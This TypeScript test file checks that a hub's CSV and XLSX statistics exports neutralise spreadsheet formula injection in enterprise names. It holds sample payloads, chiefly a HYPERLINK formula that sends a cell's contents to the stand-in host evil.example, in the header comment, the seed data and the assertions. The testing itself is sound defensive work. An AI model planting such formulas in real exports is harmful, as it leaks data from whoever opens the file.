/**
 * Issue 9: an enterprise named `=HYPERLINK("http://evil.example/?x="&A1,"click")`, exported as
 * CSV, ran as a formula when the bureau opened the file (`csvField` in hub/stats/export.ts).
 * Texts that would start a formula now start with `'` in CSV; numbers stay numbers; XLSX
 * writes such texts as texts, never formulas.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Hub } from '../../hub/hub.js';
import { parseCsv } from '../../hub/registry/import-file.js';
import { csvField, toCsv, toXlsx } from '../../hub/stats/export.js';
import { apiToken, silentLogger, tempDir } from './helpers.js';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe('CSV export neutralises formulas (issue 9)', () => {
  let dir: ReturnType<typeof tempDir>;
  let hub: Hub;
  let base: string;
  let bureau: { authorization: string };

  beforeAll(async () => {
    dir = tempDir();
    hub = new Hub({ dataDir: dir.path, mqtt: { port: 0 }, http: { port: 0 }, logger: silentLogger() });
    await hub.start();
    base = `http://127.0.0.1:${hub.httpPort}`;
    bureau = apiToken(hub.registry, 'bureau');
    const operator = apiToken(hub.registry, 'operator');
    const names: Record<string, string> = {
      F1: EVIL,
      F2: '+SUM(1,2)',
      F3: '-2+3',
      F4: '@cmd',
      F5: '普通企业',
    };
    for (const [code, name] of Object.entries(names)) {
      const r = await fetch(`${base}/api/v1/registry/enterprises/${code}`, {
        method: 'PUT',
        headers: { ...operator, 'content-type': 'application/json' },
        body: JSON.stringify({
          name,
          region: 'yiwu',
          industry: 'nev',
          backbone: false,
          ledger: { productionEquipment: 10, ncEquipment: 4, robots: 1 },
        }),
      });
      expect(r.status).toBe(200);
    }
  });
  afterAll(async () => {
    await hub.close();
    dir.remove();
  });

  it("prefixes the enterprise's formula-like names with ' in the exported CSV, numbers untouched", async () => {
    const res = await fetch(`${base}/api/v1/statistics/export?table=enterprises&format=csv&lang=en`, {
      headers: bureau,
    });
    expect(res.status).toBe(200);
    const text = await res.text();
    // The raw field: quoted, its quotes doubled, and a ' before the =.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    const [header, ...rows] = parseCsv(text.replace(/^\uFEFF/, '').trimEnd());
    const col = (n: string) => header!.indexOf(n);
    const byCode = Object.fromEntries(rows.map((r) => [r[col('Enterprise code')], r]));
    expect(byCode.F1![col('Enterprise name')]).toBe(`'${EVIL}`);
    expect(byCode.F2![col('Enterprise name')]).toBe("'+SUM(1,2)");
    expect(byCode.F3![col('Enterprise name')]).toBe("'-2+3");
    expect(byCode.F4![col('Enterprise name')]).toBe("'@cmd");
    expect(byCode.F5![col('Enterprise name')]).toBe('普通企业');
    expect(byCode.F1![col('Production equipment')]).toBe('10');
  });

  it('writes the same names as texts in XLSX, never as formulas', async () => {
    const res = await fetch(`${base}/api/v1/statistics/export?table=enterprises&format=xlsx&lang=en`, {
      headers: bureau,
    });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const sheet = wb.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const nameCol = header.indexOf('Enterprise name') + 1;
    const cells = Array.from({ length: sheet.rowCount - 1 }, (_, i) => sheet.getRow(i + 2).getCell(nameCol));
    const evil = cells.find((c) => c.value === EVIL);
    expect(evil?.type).toBe(ExcelJS.ValueType.String);
    expect(evil?.formula).toBeUndefined();
    expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
  });

  it('neutralises every OWASP lead character in any table; numbers stay numbers, negative or not', async () => {
    const t = {
      name: 'any',
      columns: [
        { key: 's', title: '=title' },
        { key: 'n', title: 'n' },
      ],
      rows: [
        { s: '=1+1', n: -1 },
        { s: '+1', n: -0.5 },
        { s: '-1', n: 0 },
        { s: '@SUM(A1)', n: 3 },
        { s: '\tx', n: null },
        { s: '\rx', n: true },
        { s: 'a=b, "c"', n: 1e-7 },
      ],
    };
    const lines = toCsv(t)
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(lines).toEqual([
      `"'=title",n`,
      `"'=1+1",-1`,
      `"'+1",-0.5`,
      `"'-1",0`,
      `"'@SUM(A1)",3`,
      `"'\tx",`,
      `"'\rx",true`,
      `"a=b, ""c""",1e-7`,
      '',
    ]);
    expect(csvField(-12)).toBe('-12');
    expect(csvField('-12')).toBe(`"'-12"`);
    // XLSX keeps the number a number and the text a text.
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await toXlsx(t)) as unknown as ArrayBuffer);
    const row = wb.worksheets[0]!.getRow(2);
    expect(row.getCell(1).value).toBe('=1+1');
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(2).value).toBe(-1);
  });
});
